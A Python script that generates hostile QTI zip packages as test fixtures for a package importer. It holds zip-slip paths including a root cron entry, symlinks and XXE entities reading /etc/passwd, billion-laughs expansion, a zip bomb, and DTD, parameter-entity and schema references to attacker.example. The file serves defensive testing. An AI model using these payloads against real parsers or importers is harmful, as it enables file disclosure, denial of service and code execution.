"""Generate the hostile QTI packages of tests/bad/package/, byte for byte the same on every run.

    python tests/bad/package/make_cases.py [OUT_DIR]    # default: this folder

Each package starts from one small valid package (a manifest and one item) and breaks it one
way; the names say how. Zips are written by hand-patched zipfile output where zipfile
cannot produce the hostile form (symlink modes, encryption flags, duplicate names), with a
fixed timestamp so the bytes never change. The zip bomb stays small on disk: 10 MiB of
spaces inside an XML element deflate to about 10 KiB (ratio ~1000:1).
"""

from __future__ import annotations

import io
import stat
import sys
import warnings
import zipfile
from collections.abc import Callable
from pathlib import Path

DATE = (1980, 1, 1, 0, 0, 0)
QTI = "http://www.imsglobal.org/xsd/imsqti_v2p1"

ITEM = f"""<?xml version="1.0" encoding="UTF-8"?>
<assessmentItem xmlns="{QTI}" identifier="q1" title="Q1" adaptive="false" timeDependent="false">
  <responseDeclaration identifier="RESPONSE" cardinality="single" baseType="identifier">
    <correctResponse><value>A</value></correctResponse>
  </responseDeclaration>
  <itemBody>
    <choiceInteraction responseIdentifier="RESPONSE" shuffle="false" maxChoices="1">
      <prompt>2 + 2?</prompt>
      <simpleChoice identifier="A">4</simpleChoice>
      <simpleChoice identifier="B">5</simpleChoice>
    </choiceInteraction>
  </itemBody>
  <responseProcessing template="http://www.imsglobal.org/question/qti_v2p1/rptemplates/match_correct"/>
</assessmentItem>
"""

MANIFEST = """<?xml version="1.0" encoding="UTF-8"?>
<manifest xmlns="http://www.imsglobal.org/xsd/imscp_v1p1" identifier="m1">
  <metadata>
    <schema>QTIv2.1 Package</schema>
    <schemaversion>1.0.0</schemaversion>
  </metadata>
  <organizations/>
  <resources>
    <resource identifier="r1" type="imsqti_item_xmlv2p1" href="items/q1.xml">
      <file href="items/q1.xml"/>
    </resource>
  </resources>
</manifest>
"""

XXE_ITEM = """<?xml version="1.0"?>
<!DOCTYPE assessmentItem [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
""" + ITEM.split("\n", 1)[1].replace("<prompt>2 + 2?</prompt>", "<prompt>&xxe;</prompt>")

LAUGHS = "".join(f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10 if i else "lol"}">' for i in range(10))
LOL_ITEM = f"""<?xml version="1.0"?>
<!DOCTYPE assessmentItem [{LAUGHS}]>
""" + ITEM.split("\n", 1)[1].replace("<prompt>2 + 2?</prompt>", "<prompt>&lol9;</prompt>")

DTD_ITEM = """<?xml version="1.0"?>
<!DOCTYPE assessmentItem SYSTEM "http://attacker.example/qti.dtd">
""" + ITEM.split("\n", 1)[1]

PARAM_ENTITY_ITEM = """<?xml version="1.0"?>
<!DOCTYPE x [<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote;]>
""" + ITEM.split("\n", 1)[1]

REMOTE_SCHEMA_ITEM = ITEM.replace(
    f'<assessmentItem xmlns="{QTI}"',
    f'<assessmentItem xmlns="{QTI}" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
    f'xsi:schemaLocation="{QTI} http://attacker.example/imsqti_v2p1.xsd"',
)


def _zip(members: list[tuple[str, bytes]], tweak: Callable[[zipfile.ZipInfo], None] | None = None) -> bytes:
    buf = io.BytesIO()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # zipfile warns about duplicate names, which we want
        with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
            for name, data in members:
                info = zipfile.ZipInfo(name, DATE)
                info.compress_type = zipfile.ZIP_DEFLATED
                info.external_attr = 0o644 << 16
                if tweak is not None:
                    tweak(info)
                zf.writestr(info, data)
    return buf.getvalue()


def _good(**replace: str) -> list[tuple[str, bytes]]:
    files = {"imsmanifest.xml": MANIFEST, "items/q1.xml": ITEM, **replace}
    return [(name, text.encode("utf-8")) for name, text in files.items()]


def _with(name: str, data: bytes, **replace: str) -> list[tuple[str, bytes]]:
    return [*_good(**replace), (name, data)]


def _tweak_member(target: str, fn: Callable[[zipfile.ZipInfo], None]) -> Callable[[zipfile.ZipInfo], None]:
    def tweak(info: zipfile.ZipInfo) -> None:
        if info.filename == target:
            fn(info)

    return tweak


def _symlink(info: zipfile.ZipInfo) -> None:
    info.external_attr = (stat.S_IFLNK | 0o777) << 16


def _set_encrypted(data: bytes, member: str) -> bytes:
    """Set the "encrypted" flag of a member in its local and central headers (zipfile
    writes no encrypted members, and resets flag_bits a ZipInfo carries into writestr)."""
    out = bytearray(data)
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        offset = zf.getinfo(member).header_offset
    out[offset + 6] |= 0x1  # local file header: general purpose flags at +6
    name = member.encode()
    central = data.rindex(b"PK\x01\x02", 0, data.rindex(name))
    out[central + 8] |= 0x1  # central directory header: flags at +8
    return bytes(out)


def cases() -> dict[str, bytes]:
    item = ITEM.encode()
    return {
        "dotdot-path.zip": _zip(_with("../../evil.xml", item)),
        "dotdot-inside.zip": _zip(_with("items/../../outside/q.xml", item)),
        "absolute-path.zip": _zip(_with("/etc/cron.d/evil", b"* * * * * root id\n")),
        "backslash-path.zip": _zip(_with("..\\..\\windows\\evil.xml", item)),
        "drive-letter.zip": _zip(_with("C:/Windows/evil.xml", item)),
        "symlink.zip": _zip(
            _with("items/link.xml", b"/etc/passwd"), _tweak_member("items/link.xml", _symlink)
        ),
        "duplicate-names.zip": _zip([*_good(), ("items/q1.xml", item.replace(b"2 + 2?", b"3 + 3?"))]),
        "encrypted-member.zip": _set_encrypted(_zip(_good()), "items/q1.xml"),
        "zip-bomb.zip": _zip(_with("items/bomb.xml", b"<a>" + b" " * (10 * 1024 * 1024) + b"</a>")),
        "member-over-size-limit.zip": _zip(
            _with("items/huge.xml", b"<a>" + b"x" * (17 * 1024 * 1024) + b"</a>")
        ),
        "xxe-entity.zip": _zip(_good(**{"items/q1.xml": XXE_ITEM})),
        "xxe-in-manifest.zip": _zip(
            _good(
                **{
                    "imsmanifest.xml": MANIFEST.replace(
                        '<?xml version="1.0" encoding="UTF-8"?>\n',
                        '<?xml version="1.0"?>\n<!DOCTYPE m [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n',
                    )
                }
            )
        ),
        "billion-laughs.zip": _zip(_good(**{"items/q1.xml": LOL_ITEM})),
        "external-dtd.zip": _zip(_good(**{"items/q1.xml": DTD_ITEM})),
        "parameter-entity.zip": _zip(_good(**{"items/q1.xml": PARAM_ENTITY_ITEM})),
        "remote-schema-location.zip": _zip(_good(**{"items/q1.xml": REMOTE_SCHEMA_ITEM})),
        "href-outside-package.zip": _zip(
            _good(
                **{
                    "imsmanifest.xml": MANIFEST.replace(
                        '<file href="items/q1.xml"/>', '<file href="../../etc/passwd"/>'
                    )
                }
            )
        ),
        "href-absolute-url.zip": _zip(
            _good(
                **{
                    "imsmanifest.xml": MANIFEST.replace(
                        '<file href="items/q1.xml"/>', '<file href="http://attacker.example/q.xml"/>'
                    )
                }
            )
        ),
        "no-manifest.zip": _zip(_good()[1:]),
        "not-a-zip.zip": b"PK\x03\x04 this is not really a zip archive\n",
        "truncated.zip": _zip(_good())[:150],
        "not-well-formed.zip": _zip(_good(**{"items/q1.xml": ITEM.replace("</itemBody>", "")})),
        "utf16-xxe.zip": _zip(
            [(n, d) for n, d in _good()[:1]]
            + [("items/q1.xml", XXE_ITEM.replace('"1.0"?>', '"1.0" encoding="UTF-16"?>').encode("utf-16"))]
        ),
    }


def main(argv: list[str]) -> None:
    out = Path(argv[1]) if len(argv) > 1 else Path(__file__).parent
    out.mkdir(parents=True, exist_ok=True)
    for name, data in cases().items():
        (out / name).write_bytes(data)


if __name__ == "__main__":
    main(sys.argv)
